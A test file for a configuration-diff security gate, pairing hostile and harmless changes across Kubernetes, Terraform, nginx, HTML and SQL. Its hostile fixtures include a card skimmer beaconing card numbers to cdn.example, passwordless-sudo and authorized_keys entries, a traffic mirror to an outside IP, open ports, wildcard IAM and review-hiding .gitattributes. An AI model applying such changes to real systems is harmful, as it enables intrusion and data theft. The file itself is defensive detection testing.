"""What configuration grants and guards, base against head: pairs of texts, and harmless rewrites of them."""

from __future__ import annotations

from textwrap import dedent
from typing import Final, NamedTuple

import pytest
from hypothesis import given
from hypothesis import strategies as st

from gate.infrastructure.compare import differences
from gate.infrastructure.facts import GRANTS, GUARDS, SUPERSEDED, FileFacts
from gate.infrastructure.reader import read, reads
from gate.languages.limited_child import Reader, scan_isolated
from gate.model.rule import Severity

Files = dict[str, str]


class Pair(NamedTuple):
    name: str
    what: str
    base: Files
    head: Files


POD: Final = """
apiVersion: apps/v1
kind: Deployment
metadata:
  name: web
spec:
  template:
    spec:
      {pod}containers:
      - name: app
        image: shop:{tag}
        securityContext:
          {context}
"""
SAFE: Final = "runAsNonRoot: true\n          capabilities:\n            drop: [ALL]"


def pod(*, pod: str = "", tag: str = "1", context: str = "runAsUser: 1000") -> Files:
    return {"deploy/web.yaml": POD.format(pod=pod, tag=tag, context=context)}


def role(verbs: str, resources: str) -> Files:
    head = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRole\nmetadata:\n  name: reader\nrules:\n"
    return {"deploy/role.yaml": f"{head}- apiGroups: ['']\n  verbs: {verbs}\n  resources: {resources}\n"}


def bound(role: str, who: str) -> Files:
    head = "apiVersion: rbac.authorization.k8s.io/v1\nkind: ClusterRoleBinding\nmetadata:\n  name: b\n"
    to = f"subjects:\n- kind: Group\n  name: {who}\n"
    return {"b.yaml": f"{head}roleRef:\n  kind: ClusterRole\n  name: {role}\n{to}"}


def firewall(first: int, last: int, where: str = "0.0.0.0/0") -> Files:
    rule = f'from_port = {first}\n    to_port = {last}\n    cidr_blocks = ["{where}"]'
    return {"main.tf": f'resource "aws_security_group" "web" {{\n  ingress {{\n    {rule}\n  }}\n}}\n'}


def policy(action: str, resource: str) -> Files:
    statement = f'[{{Effect = "Allow", Action = "{action}", Resource = "{resource}"}}]'
    text = f"policy = jsonencode({{Statement = {statement}}})"
    return {"iam.tf": f'resource "aws_iam_policy" "p" {{\n  {text}\n}}\n'}


def bucket(line: str) -> Files:
    return {"s3.tf": f'resource "aws_s3_bucket" "b" {{\n  bucket = "shop"\n  {line}\n}}\n'}


def unit(*lines: str) -> Files:
    return {"deploy/shop.service": "\n".join(("[Service]", "ExecStart=/usr/bin/shop", *lines, ""))}


def routes(*more: str) -> Files:
    """Traefik's file of routes: one is behind a log-in."""
    lines = ["app: {rule: 'Host(`a`)', service: app, middlewares: [login, limit]}", *more]
    text = "http:\n  routers:\n" + "".join(f"    {line}\n" for line in lines)
    middlewares = (
        "    login: {forwardAuth: {address: 'http://sso/auth'}}\n    limit: {rateLimit: {average: 50}}\n"
        "    both: {chain: {middlewares: [limit, login]}}\n    slow: {chain: {middlewares: [limit]}}\n"
        "    own-auth: {plugin: {ours: {}}}\n"
    )
    return {"traefik/routes.yml": f"{text}  middlewares:\n{middlewares}"}


def server(*lines: str) -> Files:
    return {"deploy/nginx.conf": "\n".join(("server {", *(f"  {line};" for line in lines), "}", ""))}


def page(text: str, path: str = "web/a.html") -> Files:
    return {path: f"<html><body>{text}</body></html>\n"}


def sql(text: str, path: str = "migrations/0002_x.sql") -> Files:
    return {path: text}


CSP: Final = "add_header Content-Security-Policy \"default-src 'self'\""
SRI: Final = "<script src='https://cdn.example/jq@{}/jq.js' integrity='sha384-x'></script>"


def modules(table: str, target: str) -> Files:
    shown = target if target.startswith("{") else f'"{target}"'
    return {"package.json": f'{{"name": "shop", "{table}": {{"#auth": {shown}}}}}'}


def paths(target: str) -> str:
    return f'{{"compilerOptions": {{"paths": {{"@/auth": ["./{target}"]}}}}}}'


HOSTILE: Final = (
    Pair(
        "module-double",
        "stand-in",
        modules("imports", "./src/auth.js"),
        modules("imports", "./test/doubles/auth.js"),
    ),
    Pair("module-package", "stand-in", modules("imports", "./src/auth.js"), modules("imports", "auth-kit")),
    Pair(
        "module-main",
        "stand-in",
        {"package.json": '{"name": "shop", "main": "src/auth.js"}'},
        {"package.json": '{"name": "shop", "main": "src/__mocks__/auth.js"}'},
    ),
    Pair(
        "module-condition",
        "stand-in",
        modules("exports", '{"node": "./src/auth.js", "default": "./src/auth.js"}'),
        modules("exports", '{"node": "./src/__mocks__/auth.js", "default": "./src/auth.js"}'),
    ),
    Pair(
        "paths-double",
        "stand-in",
        {"tsconfig.json": paths("src/auth.ts")},
        {"tsconfig.json": paths("fakes/auth.ts")},
    ),
    Pair(
        "pod-root-files",
        "host-files",
        pod(),
        pod(pod="volumes:\n      - {name: r, hostPath: {path: /}}\n      "),
    ),
    Pair("pod-host-network", "host-network", pod(), pod(pod="hostNetwork: true\n      ")),
    Pair("pod-less-confined", "confinement", pod(context=SAFE), pod()),
    Pair(
        "pod-doubled-key",
        "unreadable",
        pod(),
        pod(pod="hostPID: false\n      hostPID: true\n      "),
    ),
    Pair("role-everything", "every-right", role("[get]", "[pods]"), role("['*']", "['*']")),
    Pair("role-impersonates", "escalates", role("[get]", "[users]"), role("[get, impersonate]", "[users]")),
    Pair("bound-to-anybody", "to-anybody", {}, bound("view", "system:unauthenticated")),
    Pair("bound-admin", "cluster-admin", {}, bound("cluster-admin", "helpers")),
    Pair("firewall-all", "open-port", {}, firewall(0, 65535)),
    Pair("firewall-database", "open-port", firewall(5432, 5432, "10.0.0.0/8"), firewall(5432, 5432)),
    Pair("firewall-other", "open-other-port", {}, firewall(8080, 8080)),
    Pair("policy-everything", "every-right", policy("s3:Get*", "*"), policy("*", "*")),
    Pair(
        "policy-json",
        "every-right",
        {},
        {"p.json": '{"Statement": [{"Effect": "Allow", "Action": "*", "Resource": "*"}]}'},
    ),
    Pair(
        "policy-anybody",
        "to-anybody",
        {},
        {"p.json": '{"Statement": {"Effect": "Allow", "Action": "s3:GetObject", "Principal": "*"}}'},
    ),
    Pair("trail-partial", "recorded", bucket("enable_log_file_validation = true"), bucket("")),
    Pair(
        "package-public",
        "unpublished",
        {"package.json": '{"name": "shop", "private": true}'},
        {"package.json": '{"name": "shop"}'},
    ),
    Pair("workflow-hidden", "review-hidden", {}, {".gitattributes": ".github/** -diff\n"}),
    Pair("workflow-hidden-in-quotes", "review-hidden", {}, {".gitattributes": '".github/**" -diff\n'}),
    Pair("code-hidden-by-macro", "review-hidden", {}, {".gitattributes": "[attr]plain -diff\n*.py plain\n"}),
    Pair("code-hidden-late", "review-hidden", {}, {".gitattributes": f"*.py {'a ' * 30}-diff\n"}),
    Pair("code-generated", "review-hidden", {}, {".gitattributes": "*.py linguist-generated=true\n"}),
    Pair("bucket-public", "public-data", bucket('acl = "private"'), bucket('acl = "public-read"')),
    Pair(
        "bucket-unblocked",
        "public-block",
        bucket("block_public_acls = true"),
        bucket("block_public_acls = false"),
    ),
    Pair(
        "route-past-by-chain",
        "route-unguarded",
        routes(),
        routes("assets: {rule: a, service: app, middlewares: [slow]}"),
    ),
    Pair(
        "route-past", "route-unguarded", routes(), routes("assets: {rule: 'PathRegexp(`js`)', service: app}")
    ),
    Pair("unit-root", "runs-as-root", unit("User=shop"), unit()),
    Pair("unit-unconfined", "confinement", unit("User=shop", "ProtectSystem=strict"), unit("User=shop")),
    Pair(
        "image-root",
        "runs-as-root",
        {"Dockerfile": "FROM a\nUSER app\n"},
        {"Dockerfile": "FROM a\nUSER root\n"},
    ),
    Pair(
        "key",
        "login-key",
        {},
        {"x/authorized_keys": "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIAbcdef0123456789 x@y\n"},
    ),
    Pair("sudo", "password-free-root", {}, {"etc/sudoers.d/shop": "shop ALL=(ALL) NOPASSWD: ALL\n"}),
    Pair("server-no-policy", "content-policy", server("listen 80", CSP), server("listen 80")),
    Pair("server-no-log-in", "authentication", server("auth_basic x"), server("listen 80")),
    Pair("server-mirror", "sent-elsewhere", server("listen 80"), server("proxy_pass http://203.0.113.7/m")),
    Pair("page-unescaped", "unescaped", page("{{ note }}"), page("{{ note|safe }}")),
    Pair(
        "page-no-digest",
        "integrity",
        page(SRI.format(1)),
        page("<script src='https://cdn.example/jq@1/jq.js'></script>"),
    ),
    Pair(
        "page-no-token",
        "csrf-token",
        page("<form method=post>{% csrf_token %}</form>"),
        page("<form method=post></form>"),
    ),
    Pair(
        "page-foreign-script",
        "script-elsewhere",
        page("<p>x</p>"),
        page("<script src='https://stats.example/a.js'></script>"),
    ),
    Pair(
        "page-form-elsewhere",
        "form-elsewhere",
        page("<form action='/pay'></form>"),
        page("<form action='https://pay.example/x'></form>"),
    ),
    Pair(
        "page-skimmer",
        "typed-sent",
        page("<form action='/pay'><input name=card></form>"),
        page(
            "<form action='/pay'><input name=card></form><script>document.forms[0].onsubmit = (e) => "
            "navigator.sendBeacon('https://cdn.example/c', e.target.card.value)</script>"
        ),
    ),
    Pair("rows", "rows-open", {}, sql("ALTER TABLE a DISABLE ROW LEVEL SECURITY;")),
    Pair("policy-dropped", "rows-open", {}, sql('DROP POLICY IF EXISTS "own rows" ON a;')),
    Pair(
        "switch-yaml",
        "switched-on",
        {"v.yaml": "auth:\n  enabled: true\n"},
        {"v.yaml": "auth:\n  enabled: false\n"},
    ),
    Pair(
        "switch-camel", "switched-on", {"v.json": '{"verifyTls": true}'}, {"v.json": '{"verifyTls": false}'}
    ),
    Pair(
        "switch-skip",
        "switched-on",
        {"v.toml": "tls_skip_verify = false\n"},
        {"v.toml": "tls_skip_verify = true\n"},
    ),
)
IN_FILES_OF_THEIR_OWN: Final = {
    # test_widths.py, test_sql.py, test_daemons.py, test_kept_out.py, test_policy_conditions.py
    "log-in-optional", "header-lets-in", "image-of-anybody", "secret-logged", "copied-elsewhere",
    "secret-shown", "secret", "condition",
    "artifact-secret", "artifact-whole", "tool-code", "tool-text",
    "packed-secret", "from-anybody", "root-by-group", "writes-system", "engine-open",
    "rows-to-all", "runs-as-owner", "admin-given", "kept-out", "alias-open", "all-but",
}  # fmt: skip
HARMLESS: Final = (
    Pair(
        "module-main-moved",
        "",
        {"package.json": '{"name": "shop", "main": "./src/auth.js"}'},
        {"package.json": '{"name": "shop", "main": "dist/auth.js"}'},
    ),
    Pair("module-moved", "", modules("imports", "./src/auth.js"), modules("imports", "./lib/auth.js")),
    Pair("module-new-double", "", {"package.json": "{}"}, modules("imports", "./test/doubles/auth.js")),
    Pair("module-gone", "", modules("imports", "./src/auth.js"), {"package.json": "{}"}),
    Pair(
        "module-for-tests",
        "",
        modules("imports", '{"default": "./src/auth.js"}'),
        modules("imports", '{"test": "./test/doubles/auth.js", "default": "./src/auth.js"}'),
    ),
    Pair(
        "paths-of-tests",
        "",
        {"test/tsconfig.json": paths("src/auth.ts")},
        {"test/tsconfig.json": paths("mocks/auth.ts")},
    ),
    Pair(
        "page-asks-what-is-released",
        "",
        page("<p>x</p>"),
        page(
            "<input id=chart><script>const name = document.getElementById('chart').value; "
            "fetch(`https://api.github.com/repos/a/b/releases?page=1`)</script>"
        ),
    ),
    Pair("pod-tag", "", pod(context=SAFE), pod(tag="2", context=SAFE)),
    Pair("pod-moved", "", pod(context=SAFE), {"k8s/web.yaml": pod(context=SAFE)["deploy/web.yaml"]}),
    Pair("pod-deleted", "", pod(context=SAFE) | {"o.yaml": "a: 1\n"}, {"o.yaml": "a: 2\n"}),
    Pair(
        "pod-own-folder",
        "",
        pod(),
        pod(pod="volumes:\n      - {name: r, hostPath: {path: /data/shop}}\n      "),
    ),
    Pair("role-more", "", role("[get]", "[pods]"), role("[get, list]", "[pods, services]")),
    Pair(
        "role-renamed",
        "",
        role("['*']", "['*']"),
        {"x.yaml": role("['*']", "['*']")["deploy/role.yaml"].replace("reader", "owner")},
    ),
    Pair("bound-view", "", {}, bound("view", "helpers")),
    Pair("firewall-web", "", {}, firewall(443, 443)),
    Pair("firewall-inside", "", {}, firewall(0, 65535, "10.0.0.0/8")),
    Pair("policy-one-bucket", "", {}, policy("s3:*", "arn:aws:s3:::shop/*")),
    Pair(
        "generated-hidden",
        "",
        {},
        {".gitattributes": "*.lock -diff\ndist/** linguist-generated\n*_pb2.py binary\n* text=auto\n"},
    ),
    Pair("bucket-private", "", {}, bucket('acl = "private"')),
    Pair("unit-new", "", {}, unit()),
    Pair("unit-renamed-user", "", unit("User=shop"), unit("User=store")),
    Pair("route-behind", "", routes(), routes("assets: {rule: a, service: app, middlewares: [login]}")),
    Pair("route-chain", "", routes(), routes("assets: {rule: a, service: app, middlewares: [both]}")),
    Pair("route-plugin", "", routes(), routes("assets: {rule: a, service: app, middlewares: [own-auth]}")),
    Pair("route-of-another", "", routes(), routes("docs: {rule: a, service: docs, middlewares: [limit]}")),
    Pair("image-new", "", {}, {"Dockerfile": "FROM a\nRUN true\n"}),
    Pair(
        "image-stages",
        "",
        {"Dockerfile": "FROM a\nUSER app\n"},
        {"Dockerfile": "FROM a\nUSER root\nFROM b\nUSER app\n"},
    ),
    Pair("server-new-header", "", server("listen 80"), server("listen 80", CSP)),
    Pair("server-inside", "", server("listen 80"), server("proxy_pass http://127.0.0.1:8000/")),
    Pair("page-more-values", "", page("{{ a }}"), page("{{ a }}{{ b|escape }}")),
    Pair("page-new-safe", "", page("x"), page("{{ rendered|safe }}")),
    Pair("page-script-update", "", page(SRI.format("3.1.0")), page(SRI.format("3.2.1"))),
    Pair("page-script-gone", "", page(SRI.format(1)), page("x")),
    Pair(
        "page-form-gone",
        "",
        page("<form>{% csrf_token %}</form><b>x</b>"),
        page("<b>x</b>") | page("<form>{% csrf_token %}</form>", "web/b.html"),
    ),
    Pair("rows-made-anew", "", {}, sql("DROP POLICY own ON a;\nCREATE POLICY own ON a USING (true);")),
    Pair("rows-down", "", {}, sql("ALTER TABLE a DISABLE ROW LEVEL SECURITY;", "migrations/0002_x.down.sql")),
    Pair("rows-comment", "", {}, sql("-- DISABLE ROW LEVEL SECURITY\nSELECT 1;")),
    Pair("switch-on", "", {"v.yaml": "auth:\n  enabled: false\n"}, {"v.yaml": "auth:\n  enabled: true\n"}),
    Pair("switch-gone", "", {"v.yaml": "auth:\n  enabled: true\n"}, {"v.yaml": "name: x\n"}),
    Pair(
        "switch-of-another-kind",
        "",
        {"v.yaml": "cache:\n  enabled: true\n"},
        {"v.yaml": "cache:\n  enabled: false\n"},
    ),
    Pair(
        "helm",
        "",
        {"t/x.yaml": "{{- if .Values.a }}\na: {{ .Values.b }}\n{{- end }}\n"},
        {"t/x.yaml": "{{- if .Values.a }}\na: {{ .Values.c | quote }}\n{{- end }}\n"},
    ),
)


def told(pair: Pair) -> set[str]:
    base, head = (
        {path: read(path, dedent(text).encode(), {}) for path, text in files.items()}
        for files in (pair.base, pair.head)
    )
    return {one.fact.what for one in differences(base, head, {})}


@pytest.mark.parametrize("pair", HOSTILE, ids=lambda pair: pair.name)
def test_what_is_granted_or_no_longer_guarded_is_told(pair: Pair) -> None:
    assert told(pair) == {pair.what}


@pytest.mark.parametrize("pair", HARMLESS, ids=lambda pair: pair.name)
def test_what_stays_or_moves_is_not_told(pair: Pair) -> None:
    assert told(pair) == set()


@pytest.mark.parametrize("pair", HOSTILE, ids=lambda pair: pair.name)
def test_the_way_back_takes_nothing_away(pair: Pair) -> None:
    back = Pair(pair.name, "", pair.head, pair.base)
    assert not {what for what in told(back) if what in GRANTS}


def test_each_kind_has_a_pair_and_a_weight() -> None:
    covered = {pair.what for pair in HOSTILE}
    other = {"strong-capability", "response-header", "rate-limit", "network-policy", "encryption"}
    other |= {"deletion-protection", "transport", "recorded"} | set(SUPERSEDED.values())
    other |= IN_FILES_OF_THEIR_OWN
    assert GRANTS.keys() | GUARDS.keys() == covered | other
    assert {kind.severity for kind in (*GRANTS.values(), *GUARDS.values())} == {
        Severity.CRITICAL,
        Severity.HIGH,
        Severity.MEDIUM,
        Severity.LOW,
    }


@pytest.mark.parametrize(
    "path", ["uv.lock", "package-lock.json", "poetry.lock", "a.py", "README.md", "x.png"]
)
def test_what_says_nothing_here(path: str) -> None:
    assert not reads(path)


@given(
    st.binary(max_size=300),
    st.sampled_from(["a.yaml", "a.tf", "a.json", "a.html", "nginx.conf", "a.service", "a.sql"]),
)
def test_no_text_breaks_a_reader(data: bytes, path: str) -> None:
    facts = read(path, data, {})
    assert all(fact.line >= 1 for fact in facts.facts)


def test_a_deep_text_is_bounded() -> None:
    """A parser of C may lose its stack: that file's outcome, nobody else's."""
    deep = b"{[" * 20_000
    files = [(f"deep{suffix}", deep) for suffix in (".tf", ".yaml", ".json", ".html", ".service")]
    files.append(("fine.tf", bucket('acl = "public-read"')["s3.tf"].encode()))
    door = "gate.infrastructure.reader:read"
    results = scan_isolated(Reader(door, FileFacts, parses=True), files, deadline=60)
    assert [result.path for result in results] == [path for path, _ in files]
    assert results[-1].value is not None
    assert [fact.what for fact in results[-1].value.facts] == ["public-data"]


def test_a_long_file_is_no_hiding_place() -> None:
    padded = "# x\n" * 400_000 + firewall(0, 65535)["main.tf"]
    assert told(Pair("padded", "", {}, {"main.tf": padded})) == {"open-port"}
